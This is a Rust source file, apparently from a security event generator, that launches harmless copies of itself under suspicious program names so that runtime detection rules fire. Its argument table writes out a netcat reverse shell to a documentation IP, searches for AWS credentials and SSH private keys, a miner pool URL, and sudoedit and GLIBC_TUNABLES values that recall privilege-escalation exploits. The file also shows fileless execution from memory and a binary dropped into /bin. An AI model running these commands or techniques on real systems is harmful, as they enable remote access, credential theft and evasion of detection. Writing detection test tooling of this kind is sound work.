//! Programs that are started, or whose stand-ins are.

use std::ffi::OsString;
use std::io::Write;
use std::os::fd::AsRawFd;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Command, ExitStatus};

use rustix::fs::MemfdFlags;

use crate::context::Context;
use crate::failure::Failure;
use crate::prepared::Prepared;
use crate::stand_in::{self, StandIn};
use crate::temp::unique_name;
use crate::wait::{expect_success, run_quietly};

/// The user and group `daemon`, 1 on every Linux.
const DAEMON: u32 = 1;

/// Starts a stand-in called `name` each time.
fn stand_in(
    context: &Context,
    name: &'static str,
    arguments: &[&str],
) -> Result<Prepared, Failure> {
    let stand_in = StandIn::link(context, name)?;
    Ok(starting(context, stand_in, name, arguments, |_| {}))
}

/// The same as user `daemon`.
fn stand_in_as_daemon(
    context: &Context,
    name: &'static str,
    arguments: &[&str],
) -> Result<Prepared, Failure> {
    let stand_in = StandIn::copy(context, name)?;
    Ok(starting(context, stand_in, name, arguments, |command| {
        command.uid(DAEMON).gid(DAEMON);
    }))
}

fn starting(
    context: &Context,
    stand_in: StandIn,
    name: &'static str,
    arguments: &[&str],
    adjust: fn(&mut Command),
) -> Prepared {
    let cancel = context.cancel.clone();
    let arguments: Vec<OsString> = arguments.iter().map(OsString::from).collect();
    let mut command = stand_in.exiting();
    command.args(arguments);
    adjust(&mut command);
    Prepared::new(move || {
        let _kept = &stand_in;
        expect_success(run_quietly(&mut command, &cancel)?, name)
    })
}

/// One function for each program: the table holds plain functions.
macro_rules! stand_ins {
    ($($function:ident = $how:ident $name:literal [$($argument:expr),*];)*) => {
        $(pub(crate) fn $function(context: &Context) -> Result<Prepared, Failure> {
            $how(context, $name, &[$($argument),*])
        })*
    };
}

stand_ins! {
    shred = stand_in "shred" ["-u", "/tmp/event-generator-bulk-data"];
    find_aws_credentials = stand_in "find" ["/tmp", "-maxdepth", "1", "-iname", ".aws/credentials"];
    find_private_keys = stand_in "find" ["/tmp", "-maxdepth", "1", "-iname", "id_rsa"];
    scan_host = stand_in "nmap" ["-sn", "203.0.113.0/24"];
    scan_container = stand_in "nmap" ["-sn", "203.0.113.0/24"];
    netcat_shell = stand_in "nc" ["-e", "/bin/sh", "203.0.113.1", "22"];
    debugfs = stand_in "debugfs" ["-V"];
    mount = stand_in "mount" ["-o"];
    decode_payload = stand_in "base64" ["-d"];
    mine = stand_in "event-generator" ["-o", "stratum+tcp://203.0.113.1", "-u", "user", "-p", "pass"];
    kubectl = stand_in "kubectl" ["version"];
    wget = stand_in "wget" ["-V"];
    apt_get = stand_in "apt-get" ["--version"];
    scp = stand_in "scp" ["-V"];
    crontab = stand_in "crontab" ["-l"];
    vipw = stand_in "vipw" [];
    login_as_daemon = stand_in_as_daemon "login" [];
    pkexec_as_daemon = stand_in_as_daemon "pkexec" [];
    sudoedit_as_daemon = stand_in_as_daemon "sudoedit" ["-u", "daemon", "-s", "ls\\"];
}

pub(crate) fn proxied_curl(context: &Context) -> Result<Prepared, Failure> {
    let curl = StandIn::link(context, "curl")?;
    let url = ["http://203.0.113.1"];
    Ok(starting(context, curl, "curl", &url, |command| {
        command.env("HTTP_PROXY", "http://203.0.113.1:3128");
    }))
}

pub(crate) fn tuned_id(context: &Context) -> Result<Prepared, Failure> {
    let id = StandIn::link(context, "id")?;
    Ok(starting(context, id, "id", &[], |command| {
        command.env("GLIBC_TUNABLES", "glibc.malloc.tcache_count=7");
    }))
}

/// Starts a program through a path below `/dev/shm`.
///
/// The path is a link to us: whether `/dev/shm` forbids execution does not matter then.
pub(crate) fn from_shared_memory(context: &Context) -> Result<Prepared, Failure> {
    let path = Path::new("/dev/shm").join(unique_name());
    let program = StandIn::link_at(context, path)?;
    Ok(starting(
        context,
        program,
        "the program below /dev/shm",
        &[],
        |_| {},
    ))
}

/// Drops a copy of us into `/bin` and starts it.
pub(crate) fn drop_and_execute(context: &Context) -> Result<Prepared, Failure> {
    let context = context.clone();
    Ok(Prepared::new(move || {
        let path = Path::new("/bin").join(unique_name());
        let dropped = StandIn::copy_to(&context, &path)?;
        let status = run_quietly(&mut dropped.exiting(), &context.cancel)?;
        expect_success(status, "the dropped program")
    }))
}

/// Starts a copy of us that exists only in memory.
pub(crate) fn from_memory(context: &Context) -> Result<Prepared, Failure> {
    let step = "copy the program to memory";
    let program = std::fs::read(&context.program).map_err(Failure::at(step))?;
    let cancel = context.cancel.clone();
    let memory =
        rustix::fs::memfd_create("program", MemfdFlags::CLOEXEC).map_err(Failure::at(step))?;
    let mut file = std::fs::File::from(memory);
    file.write_all(&program).map_err(Failure::at(step))?;
    // A file that is open for writing is not executed: through a second descriptor, read-only.
    let path = format!("/proc/self/fd/{}", file.as_raw_fd());
    let readable = std::fs::File::open(&path).map_err(Failure::at(step))?;
    drop(file);
    let path = PathBuf::from(format!("/proc/self/fd/{}", readable.as_raw_fd()));
    Ok(Prepared::new(move || {
        let _kept = &readable;
        let mut command = stand_in::exiting_at(&path);
        expect_success(run_quietly(&mut command, &cancel)?, "the program in memory")
    }))
}

pub(crate) fn list_directory(context: &Context) -> Result<Prepared, Failure> {
    Ok(tool(context, "ls", &[]))
}

pub(crate) fn shell(context: &Context) -> Result<Prepared, Failure> {
    Ok(tool(context, "sh", &["-c", "ls > /dev/null"]))
}

fn tool(context: &Context, name: &'static str, arguments: &'static [&'static str]) -> Prepared {
    let cancel = context.cancel.clone();
    Prepared::new(move || {
        let status: ExitStatus = run_quietly(Command::new(name).args(arguments), &cancel)?;
        expect_success(status, name)
    })
}

pub(crate) fn nothing(_: &Context) -> Result<Prepared, Failure> {
    Ok(Prepared::new(|| Ok(())))
}
